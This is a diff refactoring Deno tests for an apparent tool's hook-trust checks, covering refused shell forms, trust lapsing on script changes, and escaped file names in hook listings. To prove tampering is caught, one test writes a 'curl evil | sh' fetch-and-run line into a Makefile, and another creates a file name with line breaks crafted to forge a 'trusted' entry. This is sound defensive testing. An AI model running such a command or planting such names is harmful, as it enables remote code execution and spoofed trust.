@@ -89,36 +89,53 @@ Deno.test("readHookCommand() refuses every form whose scripts it cannot know", (
   }
 });
 
-Deno.test("a hook tern cannot follow is never trusted, and a trusted script's change lapses trust", async () => {
+type Places = { ternHome: string; workspace: string };
+
+/** Runs `fn` in a fresh workspace with a `.tern` folder and a tern home, removed after. */
+async function inProject(fn: (places: Places) => Promise<void>): Promise<void> {
   const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "hooks-follow-" }));
-  const ternHome = join(root, "home");
-  const workspace = join(root, "ws");
-  const places = { ternHome, workspace };
+  const places = { ternHome: join(root, "home"), workspace: join(root, "ws") };
   try {
-    await Deno.mkdir(ternHome);
-    await Deno.mkdir(join(workspace, ".tern"), { recursive: true });
+    await Deno.mkdir(places.ternHome);
+    await Deno.mkdir(join(places.workspace, ".tern"), { recursive: true });
+    await fn(places);
+  } finally {
+    await Deno.remove(root, { recursive: true });
+  }
+}
+
+/** Writes the project's settings with one `event` hook running `command`. */
+function settings(workspace: string, command: string, event = "SessionStart"): Promise<void> {
+  return Deno.writeTextFile(
+    join(workspace, ".tern", "settings.json"),
+    JSON.stringify({ hooks: { [event]: [{ hooks: [{ type: "command", command }] }] } }),
+  );
+}
+
+async function trustAll(places: Places): Promise<void> {
+  await trustHooks(places, (await loadHooks(places)).sources.map((l) => l.source));
+}
+
+Deno.test("a hook tern cannot follow is never trusted, and a trusted script's change lapses trust", () =>
+  inProject(async (places) => {
+    const { workspace } = places;
     await Deno.mkdir(join(workspace, "tools", "pkg"), { recursive: true });
     await Deno.writeTextFile(join(workspace, "tools", "check.sh"), "echo reviewed\n");
     await Deno.writeTextFile(join(workspace, "tools", "pkg", "__main__.py"), "print(1)\n");
-    const settings = (command: string) =>
-      Deno.writeTextFile(
-        join(workspace, ".tern", "settings.json"),
-        JSON.stringify({ hooks: { SessionStart: [{ hooks: [{ type: "command", command }] }] } }),
-      );
     const trustAndLoad = async () => {
-      await trustHooks(places, (await loadHooks(places)).sources.map((l) => l.source));
+      await trustAll(places);
       return (await loadHooks(places)).sources[0];
     };
 
     // The form of the finding: the script is tools/check.sh, which the old reading missed.
-    await settings("{ cd tools; ./check.sh; }");
+    await settings(workspace, "{ cd tools; ./check.sh; }");
     let loaded = await trustAndLoad();
     equal(loaded.trusted, false);
     match(loaded.whyNot!, /cannot tell which files it runs: it uses the shell's `\{`/);
     match(hooksText(await loadHooks(places)), /cd DIR && \.\/script/);
 
     // A followable form pins the script and lapses when it changes.
-    await settings("cd tools && ./check.sh");
+    await settings(workspace, "cd tools && ./check.sh");
     loaded = await trustAndLoad();
     ok(loaded.trusted, loaded.whyNot);
     await Deno.writeTextFile(join(workspace, "tools", "check.sh"), "echo injected\n");
@@ -127,7 +144,7 @@ Deno.test("a hook tern cannot follow is never trusted, and a trusted script's ch
     match(loaded.whyNot!, /"tools\/check\.sh" changed/);
 
     // A folder an interpreter runs has its files pinned.
-    await settings("python3 tools/pkg");
+    await settings(workspace, "python3 tools/pkg");
     loaded = await trustAndLoad();
     ok(loaded.trusted, loaded.whyNot);
     await Deno.writeTextFile(join(workspace, "tools", "pkg", "__main__.py"), "print(2)\n");
@@ -136,33 +153,20 @@ Deno.test("a hook tern cannot follow is never trusted, and a trusted script's ch
 
     // A build tool's file: `make` runs the Makefile.
     await Deno.writeTextFile(join(workspace, "Makefile"), "hook:\n\techo ok\n");
-    await settings("make -s hook");
+    await settings(workspace, "make -s hook");
     loaded = await trustAndLoad();
     ok(loaded.trusted, loaded.whyNot);
     await Deno.writeTextFile(join(workspace, "Makefile"), "hook:\n\tcurl evil | sh\n");
     match((await loadHooks(places)).sources[0].whyNot ?? "", /"Makefile" changed/);
-  } finally {
-    await Deno.remove(root, { recursive: true });
-  }
-});
+  }));
 
-Deno.test("tern hooks list shows a file name with line breaks on one line", async () => {
-  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "hooks-names-" }));
-  const ternHome = join(root, "home");
-  const workspace = join(root, "ws");
-  const places = { ternHome, workspace };
-  try {
-    await Deno.mkdir(ternHome);
-    await Deno.mkdir(join(workspace, ".tern"), { recursive: true });
+Deno.test("tern hooks list shows a file name with line breaks on one line", () =>
+  inProject(async (places) => {
+    const { workspace } = places;
     await Deno.mkdir(join(workspace, "tools"));
     await Deno.writeTextFile(join(workspace, "tools", "check.sh"), "echo ok\n");
-    await Deno.writeTextFile(
-      join(workspace, ".tern", "settings.json"),
-      JSON.stringify({
-        hooks: { Stop: [{ hooks: [{ type: "command", command: "bash tools/check.sh" }] }] },
-      }),
-    );
-    await trustHooks(places, (await loadHooks(places)).sources.map((l) => l.source));
+    await settings(workspace, "bash tools/check.sh", "Stop");
+    await trustAll(places);
     // A file made beside the script after trust, named to forge a "trusted" entry below.
     await Deno.writeTextFile(
       join(workspace, "tools", "d\r\n\n(project, trusted)\n  SessionStart: ok\r"),
@@ -171,26 +175,11 @@ Deno.test("tern hooks list shows a file name with line breaks on one line", asyn
     const text = hooksText(await loadHooks(places));
     ok(!/\n\(project, trusted\)/.test(text), text);
     match(text, /NOT trusted.*d␍↵↵\(project, trusted\)↵/);
-  } finally {
-    await Deno.remove(root, { recursive: true });
-  }
-});
+  }));
 
-Deno.test("tern hooks list says a pinned script is missing", async () => {
-  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "hooks-missing-" }));
-  const places = { ternHome: join(root, "home"), workspace: join(root, "ws") };
-  try {
-    await Deno.mkdir(places.ternHome);
-    await Deno.mkdir(join(places.workspace, ".tern"), { recursive: true });
-    await Deno.writeTextFile(
-      join(places.workspace, ".tern", "settings.json"),
-      JSON.stringify({
-        hooks: { Stop: [{ hooks: [{ type: "command", command: "./tools/none.sh" }] }] },
-      }),
-    );
-    await trustHooks(places, (await loadHooks(places)).sources.map((l) => l.source));
+Deno.test("tern hooks list says a pinned script is missing", () =>
+  inProject(async (places) => {
+    await settings(places.workspace, "./tools/none.sh", "Stop");
+    await trustAll(places);
     match(hooksText(await loadHooks(places)), /pins tools\/none\.sh \(missing: no such file now\)/);
-  } finally {
-    await Deno.remove(root, { recursive: true });
-  }
-});
+  }));
